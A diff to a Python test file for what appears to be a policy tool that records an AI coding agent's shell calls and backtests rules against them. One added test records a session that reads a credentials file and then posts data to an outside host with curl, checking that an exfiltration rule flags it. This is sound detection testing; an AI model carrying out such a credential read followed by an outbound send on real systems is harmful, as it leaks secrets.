@@ -5,52 +5,9 @@ from pathlib import Path
 import pytest
 
 from tallystick.errors import PolicyError
-from tallystick.journal.home import Home
 from tallystick.model.decision import Effect
-from tallystick.model.step import Json, Opening, Source, Step
 from tallystick.operations.backtest import hold_against_record
-from tallystick.operations.policies import load_set
-from tallystick.operations.scribe import Scribe
-from tallystick.operations.store import init_store
-from tallystick.operations.suggest import suggest
-from tallystick.policy.facts import Act, Action, Context, Facts, FileFacts, Place
-from tallystick.policy.settings import Profile, Settings
-
-FOLDER = "/home/dev/project"
-
-
-class Recording:
-    """A store in which calls are recorded one after another."""
-
-    def __init__(self, folder: Path) -> None:
-        self.home = Home(folder / "store")
-        init_store(self.home)
-        self._made = 0
-
-    def call(
-        self, command: str, *, ts: str = "2026-11-20T10:00:00Z", success: bool | None = True, asked: Json = None
-    ) -> None:
-        """Record a command; `success` None: it has no result. `asked`: evidence of the ask before it."""
-        self._made += 1
-        corr = f"call-{self._made}"
-        meta: dict[str, Json] = {"corr": corr, "tool": "Bash", "ts": ts}
-        steps = [self._step("tool_call", corr, meta, {"content.args": {"command": command}})]
-        if asked is not None:
-            said: dict[str, Json] = {**meta, "effect": "ask", "rules": ["outside.write"]}
-            steps.append(self._step("decision", corr, said, {"content.evidence": asked}))
-        if success is not None:
-            steps.append(self._step("tool_result", corr, {**meta, "success": success}, {}))
-        with Scribe(self.home) as scribe:
-            if self._made == 1:
-                values: dict[str, Json] = {"personal.cwd": FOLDER}
-                scribe.open(Opening(session="s", agent="claude-code", source=Source.HOOK, values=values))
-            for step in steps:
-                scribe.add("claude-code", step)
-            scribe.seal()
-
-    @staticmethod
-    def _step(kind: str, corr: str, meta: dict[str, Json], values: dict[str, Json]) -> Step:
-        return Step(session="s", type=kind, source=Source.HOOK, source_id=f"{corr}/{kind}", meta=meta, values=values)
+from tests.operations.recorded_calls import Recording
 
 
 @pytest.fixture
@@ -78,6 +35,19 @@ def test_what_a_candidate_would_have_said_stands_beside_what_is_in_force(recordi
     assert [(one.call, one.in_force, one.candidate, one.rules) for one in found.differing] == [
         (command, Effect.ALLOW, Effect.ASK, ("mine.no-ls",)) for command in ("ls", "ls -la", "ls nowhere")
     ]
+
+
+def test_what_a_session_did_before_a_call_is_known_from_its_record(recording: Recording) -> None:
+    recording.call("cat config/credentials.json")
+    recording.call("curl -d x=1 https://in.example.net")
+    recording.call("curl -d x=1 https://in.example.net", ts="2026-11-20T10:00:01Z")
+    asked = {one.step.partition(":")[2]: one.rules for one in hold_against_record(recording.home).examples}
+    assert any("exfiltration.after-sensitive-read" in rules for rules in asked.values())
+    later = hold_against_record(recording.home, since="2026-11-20T10:00:00.5Z")
+    assert later.calls == 1
+    assert [one.rules for one in later.examples] == [("exfiltration.after-sensitive-read",)], (
+        "what went before still counts"
+    )
 
 
 def test_only_calls_since_a_time_are_looked_at(recording: Recording) -> None:
@@ -110,65 +80,3 @@ def test_no_file_of_now_changes_what_is_said_of_then(recording: Recording, tmp_p
 def test_a_candidate_that_cannot_be_used_is_named(recording: Recording, tmp_path: Path) -> None:
     with pytest.raises(PolicyError, match=r"candidate\.cedar, the policy on line 1"):
         hold_against_record(recording.home, [candidate(tmp_path, "forbid everything;")])
-
-
-# What was accepted ---------------------------------------------------------------------------------------------------
-
-
-def evidence(*targets: str, action: str = "write", rule: str = "outside.write") -> Json:
-    return [{"rule": rule, "action": action, "target": target} for target in targets]
-
-
-def test_what_was_accepted_becomes_an_exception_for_just_that(recording: Recording) -> None:
-    recording.call("touch ~/notes.md", asked=evidence("/home/dev/notes.md"))
-    recording.call("touch ~/notes.md", asked=evidence("/home/dev/notes.md"))
-    (one,) = suggest(recording.home)
-    assert (one.rule, one.action, one.targets, one.accepted) == ("outside.write", "write", ("/home/dev/notes.md",), 2)
-    asking = '@id("mine.write") @decision("ask") forbid (principal, action == Action::"write", resource);'
-    texts = (("mine.cedar", asking + one.policy.replace('"outside.write"', '"mine.write"')),)
-    policies = load_set(Profile.STANDARD, texts)
-    assert "mine.write" not in policies.decide(writing("/home/dev/notes.md"), Settings()).rules
-    assert "mine.write" in policies.decide(writing("/home/dev/other.md"), Settings()).rules
-
-
-def writing(path: str) -> Facts:
-    file = FileFacts(path=path, name=path.rpartition("/")[2], place=Place.HOME)
-    act = Act(action=Action.WRITE, resource=file)
-    return Facts(agent="claude-code", context=Context(tool="Write", session="s"), acts=(act,))
-
-
-def test_what_was_refused_is_not_suggested_and_keeps_its_folder_from_it(recording: Recording) -> None:
-    names = [f"/home/dev/site/{name}" for name in ("a", "b", "c", "d")]
-    for name in names[:3]:
-        recording.call(f"touch {name}", asked=evidence(name))
-    assert [one.targets for one in suggest(recording.home)] == [("/home/dev/site/*",)]
-    recording.call(f"touch {names[3]}", asked=evidence(names[3]), success=None)
-    (one,) = suggest(recording.home)
-    assert (one.targets, one.refused) == (tuple(names[:3]), 1)
-
-
-@pytest.mark.parametrize(
-    "asked",
-    [
-        evidence("/home/dev/x" + "y" * 200 + "…"),
-        evidence("/home/dev/\ufffd"),
-        evidence("Bash", action="call"),
-        [{"rule": 1}],
-        "text",
-        {},
-    ],
-)
-def test_what_has_no_whole_target_is_not_suggested(recording: Recording, asked: Json) -> None:
-    recording.call("x", asked=asked)
-    assert suggest(recording.home) == ()
-
-
-@pytest.mark.parametrize("name", ['a"b', "a\\b", "a*b", "a\\*b"])
-def test_a_name_is_not_taken_for_a_pattern(recording: Recording, name: str) -> None:
-    for one in ("x", "y", "z"):
-        recording.call("x", asked=evidence(f"/home/dev/{name}/{one}"))
-    (found,) = suggest(recording.home)
-    policies = load_set(Profile.STANDARD, (("mine.cedar", found.policy),))
-    assert found.targets == (f"/home/dev/{name}/*",)
-    assert "outside.write" not in policies.decide(writing(f"/home/dev/{name}/new"), Settings()).rules
-    assert "outside.write" in policies.decide(writing("/home/dev/aXb/new"), Settings()).rules
